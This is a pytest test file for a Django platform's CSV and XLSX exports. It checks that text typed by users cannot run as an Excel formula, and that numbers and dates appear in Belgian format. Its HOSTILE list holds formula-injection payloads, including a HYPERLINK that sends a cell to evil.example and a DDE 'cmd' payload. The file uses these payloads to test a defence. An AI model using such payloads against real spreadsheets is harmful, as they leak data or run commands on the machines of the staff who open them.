"""Exports are opened in Excel by staff: what a client, a worker or an adviser typed never runs as a formula there,
and numbers and dates read the Belgian way (CSV for Excel fr-BE, XLSX with real numbers and formats)."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.db import IntegrityError, models, transaction
from django.urls import reverse
from openpyxl import load_workbook

from ale_platform.exports import FORMULA_TRIGGERS, Column, export_response
from prestations.services import record_cheque, record_prestation, validate_prestation
from tests.factories import AdressageFactory
from tests.prestations.factories import ready
from utilisateurs.models import Demande

pytestmark = pytest.mark.django_db
HOSTILE = ('=HYPERLINK("http://evil.example/?leak="&B2,"Ouvrir")', "=cmd|' /C calc'!A0", "+32 1", "-1+1", "@SUM(A1)")


def _poison(instance, value):
    """Puts `value` into every free-text field of `instance` that the database accepts it in."""
    for field in type(instance)._meta.concrete_fields:
        if not isinstance(field, models.CharField | models.TextField) or field.choices or field.primary_key:
            continue
        text = value[: field.max_length] if field.max_length else value
        try:
            with transaction.atomic():
                type(instance)._default_manager.filter(pk=instance.pk).update(**{field.name: text})
        except IntegrityError:
            pass


def _csv_cells(response) -> list[str]:
    assert response.status_code == 200, response.status_code
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
    return [cell for row in rows for cell in row]


def _xlsx_cells(response) -> list:
    assert response.status_code == 200, response.status_code
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


EXPORTS = [
    ("prestataires:export", {}),
    ("prestataires:export_xlsx", {}),
    ("utilisateurs:export", {}),
    ("utilisateurs:export_xlsx", {}),
    ("utilisateurs:demande_list", {"format": "csv"}),
    ("utilisateurs:demande_list", {"format": "xlsx"}),
    ("prestations:list", {"format": "csv"}),
    ("prestations:list", {"format": "xlsx"}),
    ("prestations:cheques", {"format": "csv"}),
    ("prestations:cheques", {"format": "xlsx"}),
    ("prestations:a_regulariser", {"format": "csv"}),
    ("prestations:a_regulariser", {"format": "xlsx"}),
    ("forem_liaison:staff_list", {"format": "csv"}),
    ("forem_liaison:staff_list", {"format": "xlsx"}),
    ("yearly_report", {"format": "csv", "annee": 2026}),
    ("yearly_report", {"format": "xlsx", "annee": 2026}),
]


@pytest.fixture
def hostile_agency(client):
    s = ready(year=2026)
    prestation = record_prestation(
        prestataire=s.prestataire,
        utilisateur=s.utilisateur,
        activite=s.generale,
        date=datetime.date(2026, 3, 3),
        debut=datetime.time(8),
        fin=datetime.time(10),
        heures=Decimal(2),
        acting_user=s.staff,
        override_reason="test",
    )
    validate_prestation(prestation=prestation, acting_user=s.staff)
    record_cheque(agence=s.agence, numero="4444444444", utilisateur=s.utilisateur, acting_user=s.staff)
    Demande.objects.create(agence=s.agence, utilisateur=s.utilisateur, activite=s.generale, description="x")
    adressage = AdressageFactory(agence=s.agence)
    for index, instance in enumerate(
        [
            s.prestataire,
            s.utilisateur,
            s.ferme,
            s.generale,
            adressage,
            adressage.conseiller.user,
            adressage.conseiller.bureau,
            *Demande.objects.filter(agence=s.agence),
        ]
    ):
        _poison(instance, HOSTILE[index % len(HOSTILE)])
    client.force_login(s.staff)
    return client


@pytest.mark.parametrize(("url_name", "params"), EXPORTS)
def test_no_export_cell_is_a_formula(hostile_agency, url_name, params):
    response = hostile_agency.get(reverse(url_name), params)
    if params.get("format", "xlsx" if url_name.endswith("xlsx") else "csv") == "csv":
        texts = _csv_cells(response)
    else:
        cells = _xlsx_cells(response)
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert [text for text in texts if text.startswith(FORMULA_TRIGGERS)] == []
    # The hostile text is there, shown as text (the test cannot pass on an empty export).
    assert any(text.startswith("'") for text in texts), texts


def test_every_kind_of_formula_start_is_neutralised_in_both_formats():
    values = [*HOSTILE, "\tTab", "\rRetour", "=1+1", "Texte normal"]
    columns = [Column("Valeur", lambda v: v)]
    csv_cells = _csv_cells(export_response(values, columns, "test", "csv"))[1:]
    assert csv_cells == [f"'{v}" for v in values[:-1]] + ["Texte normal"]
    xlsx_cells = _xlsx_cells(export_response(values, columns, "test", "xlsx"))[1:]
    # (XML reads a carriage return back as a line feed.)
    assert [c.value.replace("\n", "\r") for c in xlsx_cells] == [f"'{v}" for v in values[:-1]] + ["Texte normal"]
    assert {c.data_type for c in xlsx_cells} == {"s"}


ROW = {
    "heures": Decimal("13.5"),
    "montant": 6.2,
    "cheques": 3,
    "date": datetime.date(2026, 3, 7),
    "nom": "Dupont",
}
NUMBER_COLUMNS = [Column(key.capitalize(), lambda r, key=key: r[key]) for key in ROW]


def test_csv_numbers_and_dates_read_as_excel_in_belgium_reads_them():
    header, row = list(csv.reader(io.StringIO(_csv_text(NUMBER_COLUMNS)), delimiter=";"))
    assert row == ["13,50", "6,20", "3", "07/03/2026", "Dupont"]


def _csv_text(columns):
    return export_response([ROW], columns, "test", "csv").content.decode("utf-8-sig")


def test_xlsx_numbers_are_numbers_with_formats_and_readable_widths():
    sheet = load_workbook(io.BytesIO(export_response([ROW], NUMBER_COLUMNS, "test", "xlsx").content)).active
    heures, montant, cheques, date, nom = sheet[2]
    assert heures.value == 13.5 and heures.data_type == "n" and heures.number_format == "#,##0.00"
    assert montant.value == 6.2 and montant.number_format == "#,##0.00"
    assert cheques.value == 3 and cheques.number_format == "0"
    assert date.value == datetime.datetime(2026, 3, 7) and date.number_format == "DD/MM/YYYY"
    assert nom.value == "Dupont"
    assert all(sheet.column_dimensions[letter].width >= 8 for letter in "ABCDE")
    assert sheet[1][0].font.bold


def test_every_export_goes_through_the_one_place():
    """No view writes its own CSV or workbook: the neutralisation and formats live in ale_platform.exports."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for app in ("ale_platform", "prestataires", "prestations", "utilisateurs", "forem_liaison")
        for path in (root / app).rglob("*.py")
        if path.name != "exports.py"
        and any(marker in path.read_text() for marker in ("csv.writer", "openpyxl", "text/csv"))
    ]
    assert offenders == []
